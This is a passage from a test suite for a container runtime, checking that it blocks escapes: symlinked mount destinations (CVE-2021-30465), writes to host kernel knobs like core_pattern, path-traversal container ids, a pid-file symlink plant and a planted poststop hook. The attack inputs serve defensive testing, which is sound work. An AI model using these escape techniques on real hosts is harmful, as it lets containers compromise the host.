        s.root = { path: root, readonly: true };
      } }));
    for (const cwd of ['/../../../../..', '/data/../../../..', '/up', '/up/../..']) {
      const r = run(cwd);
      expect.soft(r.stderr, cwd).toBe('');
      expect.soft(r.stdout.split('\n')[0], cwd).toBe('/');
      expect.soft(r.stdout, cwd).toMatch(/^data$/m);
    }
    // A host directory named by a symlink: resolved in the root, where it does not exist.
    for (const cwd of ['/abs', '/rel']) {
      const r = run(cwd);
      expect.soft(r.stdout, cwd).not.toContain('host-marker');
      expect.soft(r.stderr.trimEnd(), cwd).toMatch(/process\.cwd: change directory to .*\(ENOENT\)$/);
    }
  });
});

// 3. Mount destinations, maskedPaths, readonlyPaths and /dev/console are resolved inside the
// rootfs, symlinks included, never out of it (CVE-2021-30465): the root filesystem below is
// the container's image, so it may hold any symlink. Each planted symlink points to a host
// directory (absolutely, or relatively with enough `..` to climb out of any root); the same
// path also exists inside the rootfs, where the mount must land. Protections: every path in
// the root is opened with openat2(RESOLVE_IN_ROOT) (fsops.c fs_open_in_root), new files with
// O_NOFOLLOW|O_EXCL and new directories with mkdirat below an fd so opened; masks, read-only
// paths and the console come after pivot_root. Checked: with fs_open_in_root() following
// symlinks from the rootfs fd (openat2 with RESOLVE_NO_MAGICLINKS only, the path made
// relative), the mounts test failed (the tmpfs directories and the bound file were made in
// the host directory); with that and the masks, read-only paths and terminal moved before
// PIVOT in lib/plan/build.ts, the masked/read-only/console test failed (`in-root secret` was
// read unmasked, the in-root directory stayed writable, /dev/console was not the terminal):
// the masks and binds had gone to the host's files, in the container's private namespace.
eachMode('attacks: symlinks in the rootfs out of it (CVE-2021-30465)', ['busybox', 'dist', 'addon'], (mode, skip) => {
  const who = () => runAs(mode)!;

  /** A host directory with a marker, and a rootfs whose /mnt/{abs,rel} are symlinks to it. */
  function setup(name: string) {
    const host = ownedDir(who(), `host-${name}`);
    writeFileSync(join(host, 'host-marker'), 'host\n');
    own(who(), join(host, 'host-marker'));
    const root = customRootfs(who(), `rootfs-${name}`);
    // The same path inside the rootfs, with a marker of its own.
    const inside = join(root, host);
    mkdirSync(inside, { recursive: true });
    writeFileSync(join(inside, 'in-root-marker'), 'in root\n');
    execFileSync('chown', ['-R', `${who().uid}:${who().gid}`, join(root, host.split('/')[1]!)]);
    const listing = () => execFileSync('ls', ['-A', host], { encoding: 'utf8' }).trim().split('\n');
    return { host, root, listing };
  }

  it.skipIf(skip)('a mount destination through a symlink (absolute, relative) lands inside the rootfs', () => {
    const { host, root, listing } = setup('mounts');
    plantSymlink(who(), host, join(root, 'mnt/abs'));
    plantSymlink(who(), climb(host), join(root, 'mnt/rel'));
    // The rootfs' /dev too: the config's tmpfs mount on /dev and the devices go through it.
    execFileSync('rm', ['-rf', join(root, 'dev')]);
    mkdirSync(join(root, host, 'dev'));
    own(who(), join(root, host, 'dev'));
    plantSymlink(who(), climb(join(host, 'dev')), join(root, 'dev'));
    const file = join(ownedDir(who(), 'bindsrc'), 'file');
    writeFileSync(file, 'bound\n');
    const bundle = makeBundle(who(), {
      args: sh(`grep -o " ${host}/[^ ]*" /proc/self/mountinfo | sort; ls /mnt/abs; cat /mnt/rel/file; echo x > /dev/null && echo dev-ok`),
      edit: (s) => {
        s.root = { path: root, readonly: true };
        // First, so that each is tried even if a later one fails.
        s.mounts!.unshift(
          { destination: '/mnt/abs/tmp1', type: 'tmpfs', source: 'tmpfs' },
          { destination: '/mnt/rel/tmp2', type: 'tmpfs', source: 'tmpfs' },
          { destination: '/mnt/rel/file', type: 'bind', source: file, options: ['bind', 'ro'] },
        );
      },
    });
    const r = runBundle(who(), bundle);
    // Nothing made in the host's directory; everything in the rootfs' one.
    expect(listing()).toEqual(['host-marker']);
    expect(r.stderr).toBe('');
    const lines = r.stdout.split('\n');
    for (const at of ['dev', 'dev/pts', 'file', 'tmp1', 'tmp2']) expect(lines).toContain(` ${host}/${at}`);
    expect(lines.slice(lines.indexOf('file'))).toEqual(['file', 'in-root-marker', 'tmp1', 'tmp2', 'bound', 'dev-ok', '']);
    expect(r.status).toBe(0);
  });

  it.skipIf(skip)('a masked path, a read-only path and /dev/console through symlinks act inside the rootfs', (ctx) => {
    if (!hasScript) ctx.skip('needs `script` (util-linux) to give launch a terminal');
    const { host, root, listing } = setup('masks');
    writeFileSync(join(host, 'secret'), 'host secret\n');
    writeFileSync(join(host, 'console'), 'host console\n');
    writeFileSync(join(root, host, 'secret'), 'in-root secret\n');
    writeFileSync(join(root, host, 'console'), '');
    own(who(), join(host, 'secret'), join(host, 'console'), join(root, host, 'secret'), join(root, host, 'console'));
    plantSymlink(who(), join(host, 'secret'), join(root, 'etc/masked-abs'));
    plantSymlink(who(), climb(join(host, 'secret')), join(root, 'etc/masked-rel'));
    plantSymlink(who(), climb(host), join(root, 'mnt/ro'));
    // /dev from the rootfs (no tmpfs over it), its console a symlink to the host's.
    plantSymlink(who(), join(host, 'console'), join(root, 'dev/console'));
    const bundle = makeBundle(who(), {
      args: sh(`cat /etc/masked-abs /etc/masked-rel ${host}/secret; echo end; touch /mnt/ro/x 2>/dev/null || echo ro; [ /dev/console -ef "$(tty)" ] && echo console-is-tty`),
      edit: (s) => {
        s.root = { path: root, readonly: false };
        s.process!.terminal = true;
        s.mounts = s.mounts!.filter((m) => m.destination !== '/dev');
        s.linux!.maskedPaths = ['/etc/masked-rel'];
        s.linux!.readonlyPaths = ['/mnt/ro'];
      },
    });
    const launch = `${launchShell()} --root "${stateRoot(who())}"`;
    const r = spawnSync('script', ['-qec', `${launch} run --bundle "${bundle}" ${uniq('masks')}`, '/dev/null'], { ...spawnOptions(who()), encoding: 'utf8', timeout: 20_000 * SLOW });
    // Masked where it is in the rootfs: the host's file is never read, and stays as it was.
    expect(r.stdout.replaceAll('^@', '').replaceAll('\r', '')).toBe('end\nro\nconsole-is-tty\n');
    expect(readFileSync(join(host, 'secret'), 'utf8')).toBe('host secret\n');
    expect(readFileSync(join(host, 'console'), 'utf8')).toBe('host console\n');
    expect(listing().sort()).toEqual(['console', 'host-marker', 'secret']);
  });
});

// 4. The kernel's host-wide knobs stay out of reach as the default config (`launch spec`,
// `launch spec --rootless`: runc's) asks: /proc/sys and /proc/sysrq-trigger read-only (writing
// core_pattern would make the host's kernel run a program of the container's, as root, at the
// next crash), /proc/kcore and the others masked, /sys and /sys/fs/cgroup read-only. The
// probe only opens for writing (O_WRONLY, no O_TRUNC): nothing is written even where it could
// be. Protections: READONLY of linux.readonlyPaths (fs_readonly), MASK of linux.maskedPaths
// (fs_mask), the `ro` of the sysfs and cgroup mounts. Checked: with fs_readonly() and
// fs_mask() returning 0 at once and MS_RDONLY dropped from the mounts' flags (lib/plan/
// rootfs.ts), the test failed as root (core_pattern, drop_caches, /sys/power/state and the
// cgroup files `writable`, the cgroup directories `made`, /proc/keys and /proc/timer_list
// readable, /sys/firmware listed); rootless it failed only on the unmasked /proc/timer_list:
// there the user namespace denies these writes by itself.
eachMode('attacks: /proc and /sys writes that would reach the host', ['busybox', 'dist', 'addon'], (mode, skip) => {
  const who = () => runAs(mode)!;
  const knobs = ['/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/vm/drop_caches', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper', '/sys/power/state'];

  it.skipIf(skip)('with the config `launch spec` writes: read-only, masked, and no cgroup to make', (ctx) => {
    if (noProbe) ctx.skip(noProbe);
    const bundle = ownedDir(who(), 'spec');
    const made = launchSync(who(), mode === 'root' ? ['spec', '--bundle', bundle] : ['spec', '--rootless', '--bundle', bundle]);
    expect([made.stderr, made.status]).toEqual(['', 0]);
    const spec = JSON.parse(readFileSync(join(bundle, 'config.json'), 'utf8')) as Spec;
    spec.root = { path: busyboxRootfs(who()), readonly: true };
    spec.process!.terminal = false;
    const cgroupFiles = ['/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/cgroup.subtree_control', '/sys/fs/cgroup/pids/cgroup.procs', '/sys/fs/cgroup/memory/memory.limit_in_bytes'];
    spec.process!.args = sh(
      `/probe/probe openw ${[...knobs, ...cgroupFiles].join(' ')}; /probe/probe mkdir /sys/fs/cgroup/launch-attack /sys/fs/cgroup/pids/launch-attack; ` +
        'for f in /proc/kcore /proc/keys /proc/timer_list /proc/sched_debug; do [ -e $f ] && echo "$f $(head -c 64 $f | wc -c)"; done; ls /sys/firmware | wc -l',
    );
    withProbe(spec);
    if (mode !== 'root') {
      spec.linux!.uidMappings = [{ containerID: 0, hostID: who().uid, size: 1 }];
      spec.linux!.gidMappings = [{ containerID: 0, hostID: who().gid, size: 1 }];
    }
    writeFileSync(join(bundle, 'config.json'), JSON.stringify(spec));
    const r = runBundle(who(), bundle);
    expect(r.stderr).toBe('');
    const lines = r.stdout.trim().split('\n');
    const status = (path: string) => lines.find((l) => l.startsWith(`${path} `))?.slice(path.length + 1);
    for (const path of [...knobs, ...cgroupFiles]) {
      // Absent on this kernel (no sysrq, no uevent_helper) or this cgroup version is fine.
      expect.soft(status(path), path).toMatch(/^(EROFS|EACCES|EPERM|ENOENT)$/);
    }
    expect.soft(status('/sys/fs/cgroup/launch-attack')).toMatch(/^(EROFS|EACCES|EPERM)$/);
    expect.soft(status('/sys/fs/cgroup/pids/launch-attack')).toMatch(/^(EROFS|EACCES|EPERM|ENOENT)$/);
    // Masked: /dev/null over the files (nothing to read), an empty tmpfs over the directory.
    for (const path of ['/proc/kcore', '/proc/keys', '/proc/timer_list', '/proc/sched_debug']) {
      const s = status(path);
      if (s !== undefined) expect.soft(s, path).toBe('0');
    }
    expect(lines.at(-1)).toBe('0');
    expect(r.status).toBe(0);
  });
});

// 5. Ids, --root and the state root: nothing is written outside the state root, which is
// created 0700, and a root another user could write in is refused (it would let that user
// plant a state.json whose pid, bundle, cgroup and poststop hooks `delete` and `kill` act on);
// nor does the pid file's temporary name next to it follow a planted symlink.
// Protections: validateId (lib/state/store.ts; runc's rule) before any path is made of an id;
// StateStore's checks of the root's owner, type and mode, before reads too (new: they were
// made by create and run only); the pid file's temporary made with O_EXCL (new). Checked: with validateId() accepting everything, the id test
// failed (`.`, `..`, `../x`, `/abs`, `*`... were taken: containers created, or paths made of
// them); with lib/state/store.ts as it was, the root test failed (create took the world- and
// group-writable roots; in every case state, kill and list read the planted container, and
// `delete --force` ran its poststop hook); with the pid file's temporary written without
// O_EXCL (lib/runtime/run.ts, as it was), the pid file test failed (the planted symlink's
// target was overwritten with the pid).
eachMode('attacks: ids, --root and the state root', ['busybox', 'dist', 'addon'], (mode, skip) => {
  const who = () => runAs(mode)!;
  const entries = (dir: string) => (existsSync(dir) ? readdirSync(dir).sort() : []);
  /** launch with this --root (launchSync gives every call the mode's own). */
  const atRoot = (root: string, args: string[]) => {
    const [file, ...argv] = [...launchWords(), '--root', root, ...args];
    // Output to a file: a container that did start would hold a pipe open.
    const log = join(ownedDir(who(), 'log'), 'log');
    const fd = openSync(log, 'w');
    try {
      const r = spawnSync(file!, argv, { ...spawnOptions(who()), stdio: ['ignore', fd, fd], timeout: 30_000 * SLOW });
      return { status: r.status, stderr: readFileSync(log, 'utf8') };
    } finally {
      closeSync(fd);
    }
  };

  it.skipIf(skip)('ids that are paths, dots, too long or with a newline are refused by every verb', () => {
    const root = join(ownedDir(who(), 'ids'), 'root');
    const parent = dirname(root);
    const bundle = makeBundle(who(), { args: ['/bin/true'] });
    const before = { parent: entries(parent), bundle: entries(bundle) };
    const bad = ['../x', '../../x', 'a/b', '/abs', '.', '..', '.hidden', 'a\nb', 'a\x1b[2Jb', 'x'.repeat(2000), 'a b', 'a\\b', '*'];
    for (const id of bad) {
      for (const verb of [['create', '--bundle', bundle], ['run', '--bundle', bundle], ['start'], ['state'], ['kill'], ['delete', '--force'], ['exec'], ['pause']]) {
        const r = atRoot(root, [...verb, id, ...(verb[0] === 'exec' ? ['/bin/true'] : [])]);
        const what = `${verb.join(' ')} ${JSON.stringify(id.length > 20 ? `${id.slice(0, 20)}...` : id)}`;
        expect.soft(r.status, what).not.toBe(0);
        expect.soft(r.stderr.trimEnd(), what).toMatch(/^launch: \S+ .*invalid container id `[^]*` \(letters, digits and _\+-\. only, not starting with a dot\)$/);
      }
    }
    // A 255-byte id is valid (runc's rule has no length limit) and a 300-byte one fails the
    // mkdir: neither leaves anything anywhere.
    for (const id of ['y'.repeat(300)]) {
      const r = atRoot(root, ['create', '--bundle', bundle, id]);
      expect(r.status).not.toBe(0);
    }
    expect(entries(parent).filter((e) => e !== 'root')).toEqual(before.parent);
    expect(entries(root)).toEqual([]);
    expect(entries(bundle)).toEqual(before.bundle);
    // A NUL never gets through the command line; the store refuses it too.
    expect(() => new StateStore(root).dir('a\0b')).toThrow(/invalid container id/);
    // 105 launches, each through Node (the front leaves bad ids to it): 15-60 s on a quiet
    // machine, more when CI's other passes load it.
  }, 240_000 * SLOW);

  it.skipIf(skip)('the state root is made 0700 (its parents too), state.json 0600', () => {
    const root = join(ownedDir(who(), 'mode'), 'a', 'b', 'root');
    const id = uniq('mode');
    expect(atRoot(root, ['run', '-d', '--bundle', makeBundle(who(), { args: ['/bin/sleep', '30'] }), id])).toEqual({ status: 0, stderr: '' });
    try {
      for (const dir of [root, dirname(root), dirname(dirname(root)), join(root, id)]) {
        expect.soft(statSync(dir).mode & 0o7777, dir).toBe(0o700);
        expect.soft(statSync(dir).uid, dir).toBe(who().uid);
      }
      expect(statSync(join(root, id, 'state.json')).mode & 0o777).toBe(0o600);
    } finally {
      atRoot(root, ['delete', '--force', id]);
    }
  });

  it.skipIf(skip)('the pid file is not written through a symlink planted next to it', () => {
    // A directory others may write in (as /tmp), where launch's temporary name is predictable:
    // `.<its pid>.pid.tmp`. A shell that plants the link and then execs launch gives it its pid.
    const dir = ownedDir(who(), 'piddir');
    chmodSync(dir, 0o1777);
    const victim = join(ownedDir(who(), 'victim'), 'precious');
    writeFileSync(victim, 'precious\n');
    own(who(), victim);
    const id = uniq('pid');
    const plant = 'ln -s "$1" "$2/.$$.pid.tmp"; shift 2; exec "$@"';
    const args = [...launchWords(), '--root', stateRoot(who()), 'run', '--pid-file', join(dir, 'pid'), '--bundle', makeBundle(who(), { args: ['/bin/true'] }), id];
    const r = spawnSync('/bin/sh', ['-c', plant, 'sh', victim, dir, ...args], { ...spawnOptions(who()), encoding: 'utf8', timeout: 30_000 * SLOW });
    launchSync(who(), ['delete', '--force', id]);
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
    // Refused, rather than written where the link points.
    expect(r.stderr.trimEnd()).toMatch(/cannot write the pid file `.*\/pid`: File exists \(EEXIST\)$/);
  });

  it.skipIf(skip)('a state root others may write in, or another user\'s, or a symlink, is refused, by reads too', () => {
    const bundle = makeBundle(who(), { args: ['/bin/true'] });
    // A directory of another user's takes root to make (chown): not when the suite runs as the user.
    const other = process.getuid!() !== 0 ? undefined : mode === 'root' ? runAs('rootless') : { uid: 0, gid: 0 };
    const cases: { name: string; make: (dir: string) => void; line: RegExp }[] = [
      { name: 'world-writable', make: (d) => (mkdirSync(d), own(who(), d), chmodSync(d, 0o777)), line: /state root is writable by others \(mode 0777\)/ },
      { name: 'sticky, world-writable', make: (d) => (mkdirSync(d), own(who(), d), chmodSync(d, 0o1777)), line: /state root is writable by others \(mode 1777\)/ },
      { name: 'group-writable', make: (d) => (mkdirSync(d), own(who(), d), chmodSync(d, 0o770)), line: /state root is writable by others \(mode 0770\)/ },
      { name: 'a symlink to ours', make: (d) => (mkdirSync(`${d}-real`, { mode: 0o700 }), own(who(), `${d}-real`), plantSymlink(who(), `${d}-real`, d)), line: /state root is not a directory/ },
      ...(other ? [{ name: 'another user\'s', make: (d: string) => (mkdirSync(d, { mode: 0o755 }), lchownSync(d, other.uid, other.gid)), line: /state root belongs to another user/ }] : []),
    ];
    for (const c of cases) {
      const root = join(ownedDir(who(), 'badroot'), 'root');
      c.make(root);
      // What another user would plant for `delete` to act on: a container whose bundle has a
      // poststop hook (run by delete), and a pid (killed by delete --force).
      const planted = join(ownedDir(who(), 'planted'), 'ran');
      const evil = makeBundle(who(), { args: ['/bin/true'], edit: (s) => void (s.hooks = { poststop: [{ path: '/bin/sh', args: ['sh', '-c', `touch ${planted}`] }] }) });
      const stateDir = join(realpathSync(root), 'victim');
      mkdirSync(stateDir);
      writeFileSync(join(stateDir, 'state.json'), JSON.stringify({ ociVersion: '1.2.0', id: 'victim', status: 'stopped', bundle: evil }));
      for (const args of [['create', '--bundle', bundle, uniq('r')], ['state', 'victim'], ['delete', '--force', 'victim'], ['kill', 'victim', 'KILL'], ['list']]) {
        const r = atRoot(root, args);
        if (args[0] === 'create' && r.status === 0) atRoot(root, ['delete', '--force', args[3]!]);
        expect.soft(r.stderr.trimEnd(), `${c.name}: ${args[0]}`).toMatch(c.line);
        expect.soft(r.status, `${c.name}: ${args[0]}`).toBe(125);
      }
      expect.soft(existsSync(planted), `${c.name}: the planted poststop hook ran`).toBe(false);
      expect.soft(entries(realpathSync(root)), c.name).toEqual(['victim']);
    }
  });
});
